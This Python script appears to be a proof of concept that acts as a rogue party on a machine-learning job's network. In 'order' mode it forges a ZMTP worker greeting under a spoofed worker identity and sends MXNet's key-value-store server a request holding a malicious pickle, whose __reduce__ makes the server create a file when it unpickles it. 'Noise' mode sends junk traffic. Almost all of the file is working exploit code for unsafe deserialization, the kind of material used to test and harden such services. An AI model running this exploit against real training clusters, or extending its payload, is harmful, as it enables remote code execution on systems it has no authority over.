"""Somebody on a job's network who does not belong to it.

    python stranger.py noise|order FILE ADDRESS:PORT...

`noise` means nothing to anybody. `order` is what a worker would tell a server of MXNet's key-value store: to unpickle a
text, which makes FILE. It needs nothing but Python, so that it runs in a container of the image too.
"""

import pickle
import socket
import struct
import sys
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress

GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)  # ZMTP 3.0
LONG, COMMAND = 0x02, 0x04  # flags of frames
WORKER = b"ps09"  # read as the number of the first worker, whose own connection goes by the name of ps9
META = {1: 0, 4: 1, 6: 1, 7: 0, 8: 0, 10: 0}  # the fields of a request to a server: a command, of kind 0
NOISE = (b"", b"GET / HTTP/1.1\r\n\r\n", b'{"word": "hello", "rank": 1}\n')


class Maker:
    """Unpickled, it makes a file."""

    def __init__(self, file: str) -> None:
        self.file = file

    def __reduce__(self) -> tuple[object, ...]:
        return open, (self.file, "w")


def frame(content: bytes, flags: int = 0) -> bytes:
    """Give a frame of ZMTP."""
    if len(content) < 256:
        return struct.pack("!BB", flags, len(content)) + content
    return struct.pack("!BQ", flags | LONG, len(content)) + content


def ready_command(properties: dict[bytes, bytes]) -> bytes:
    """Give the command that ends a greeting."""
    parts = [bytes([len(name)]) + name + struct.pack("!I", len(value)) + value for name, value in properties.items()]
    return frame(b"\x05READY" + b"".join(parts), COMMAND)


def varint(number: int) -> bytes:
    """Give a number as protobuf writes it."""
    low, high = number & 0x7F, number >> 7
    return bytes([low | 0x80]) + varint(high) if high else bytes([low])


def unpickle_request(file: str) -> list[bytes]:
    """Give the greeting of a worker and then the request."""
    body = pickle.dumps(Maker(file), 0)
    numbers = b"".join(bytes([field << 3, value]) for field, value in META.items())
    meta = numbers + bytes([2 << 3 | 2]) + varint(len(body)) + body
    return [GREETING + ready_command({b"Socket-Type": b"DEALER", b"Identity": WORKER}), frame(meta)]


def send_words(address: tuple[str, int], words: list[bytes]) -> None:
    """Send each message after a reply to the last one, or after a second; ignore a closed connection."""
    with suppress(OSError), socket.create_connection(address, timeout=5) as connection:
        connection.settimeout(1)
        for word in words:
            connection.sendall(word)
            with suppress(TimeoutError):
                while (heard := connection.recv(4096)) and b"READY" not in heard:
                    pass


def main(kind: str, file: str, *places: str) -> None:
    """Talk to all places at once."""
    speeches = [[word] for word in NOISE] if kind == "noise" else [unpickle_request(file)]
    with ThreadPoolExecutor(100) as pool:
        for place in places:
            host, _, port = place.rpartition(":")
            for words in speeches:
                pool.submit(send_words, (host, int(port)), words)


if __name__ == "__main__":
    main(*sys.argv[1:])
